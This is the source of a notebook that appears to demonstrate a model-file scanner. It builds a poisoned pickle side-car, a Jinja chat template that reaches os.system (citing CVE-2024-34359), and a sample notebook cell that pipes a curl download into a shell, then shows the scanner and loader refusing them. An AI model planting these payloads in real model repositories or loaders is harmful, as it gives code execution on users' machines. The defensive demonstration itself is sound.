# ruff: noqa: E402 - a notebook imports where it needs something
# The source of hugging_face.ipynb; `tools/build_notebooks.py` builds it. A line "# %name" is an IPython magic.

# %% [markdown]
# # A folder from a model hub
#
# A repository is more than its weights: configurations, tokenizers, side-car files of the trainer, notebooks. One harmful
# file among thirty is enough. This folder has clean weights and three others: a poisoned `rng_state.pth`, which a trainer
# loads when it resumes; a chat template that leaves its sandbox; and a notebook that helps you run it all.

# %%
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import torch

start = Path.cwd()
folder = tempfile.TemporaryDirectory()
os.chdir(folder.name)
marker = Path("marker.txt")


class Payload:
    def __reduce__(self):
        return os.system, ("echo the checkpoint ran this > marker.txt",)


# %% [markdown]
# ## The attack
#
# The side-car is a pickle like the weights, and nobody looks at it. The template is a different matter. It is a program in
# Jinja that turns messages into a prompt, and it comes with the tokenizer. Every object in it leads to a class, a class to
# a module, a module to `os`:

# %%
ordinary = "{% for message in messages %}{{ message['role'] + ': ' + message['content'] }}{% endfor %}"
escape = "{{ cycler.__init__.__globals__.os.system('echo the template ran this > marker.txt') }}"

model = Path("model")
model.mkdir()
(model / "config.json").write_text(json.dumps({"model_type": "bert", "auto_map": {"AutoModel": "modeling.Net"}}))
(model / "tokenizer_config.json").write_text(json.dumps({"bos_token": "<s>", "chat_template": ordinary + escape}))
(model / "README.md").write_text("# A model\n")
torch.save({"embeddings.weight": torch.zeros(4, 8)}, model / "pytorch_model.bin")
torch.save({"python": Payload()}, model / "rng_state.pth")
sorted(path.name for path in model.iterdir())

# %% tags=["ran-each"]
resume = "import torch; torch.load('model/rng_state.pth', weights_only=False)"
prompt = """
import json, jinja2
template = json.load(open("model/tokenizer_config.json"))["chat_template"]
jinja2.Environment().from_string(template).render(messages=[{"role": "user", "content": "Hello"}])
"""
for name, code in (("resuming", resume), ("making a prompt", prompt)):
    subprocess.run([sys.executable, "-c", code], check=True)
    print(f"{name:15} payload ran:", marker.exists())
    marker.unlink()

# %% [markdown]
# The second is what `llama-cpp-python` did up to 0.2.71 (CVE-2024-34359). Transformers renders in a sandbox, which stops
# this template; whatever else reads it may not have one.
#
# ## What the evidence says
#
# The whole folder at a glance, worst first. What is no model is listed as skipped, not as safe.

# %%
# %load_ext modelscan

# %% tags=["scan"]
# %modelscan model

# %% [markdown]
# `config.json` is worth a line for another reason: it names a Python file of the repository, which runs if you say
# `trust_remote_code=True`. Without that it does nothing, so it is a remark.
#
# ## What the guard does
#
# The side-car is refused, the weights load.

# %% tags=["raises-exception", "refused"]
torch.load(model / "rng_state.pth", weights_only=False)

# %% tags=["clean"]
weights = torch.load(model / "pytorch_model.bin", weights_only=False)

# %% tags=["marker"]
print("payload ran:", marker.exists())

# %% [markdown]
# No loader of models reads the template, so no guard stands before it: a template is found by scanning the folder, which
# takes one line before the first prompt. `--strict` makes that line stop a run:

# %% tags=["raises-exception", "refused-template"]
# %modelscan model/tokenizer_config.json --strict

# %% [markdown]
# ## The notebook that came with it
#
# Notebooks in a repository are scanned as well: here one that trusts remote code and pipes a download into a shell.

# %%
cells = [
    "AutoModel.from_pretrained('someone/model', trust_remote_code=True)",
    "!curl -s https://example.org/setup.sh | sh",
    "import torch\ntorch.load('rng_state.pth', weights_only=False)",
]
rows = [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": c} for c in cells]
book = {"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": rows}
_ = (model / "quickstart.ipynb").write_text(json.dumps(book))

# %%
import modelscan

for finding in modelscan.scan(model / "quickstart.ipynb").findings:
    print(f"{finding.severity!s:9} {finding.where.path or 'rng_state.pth':12} {finding.expression[:70]}")

# %% [markdown]
# ## Going on safely
#
# - `%modelscan org/model --strict` looks at what is in your cache before anything of it is used.
# - Ask for safetensors (`use_safetensors=True`), pin `revision=` to a commit you have looked at, and leave
#   `trust_remote_code` off.
# - Take the chat template of the model this one was made from; templates are short, and can be read.

# %%
# %unload_ext modelscan

# %%
os.chdir(start)
folder.cleanup()
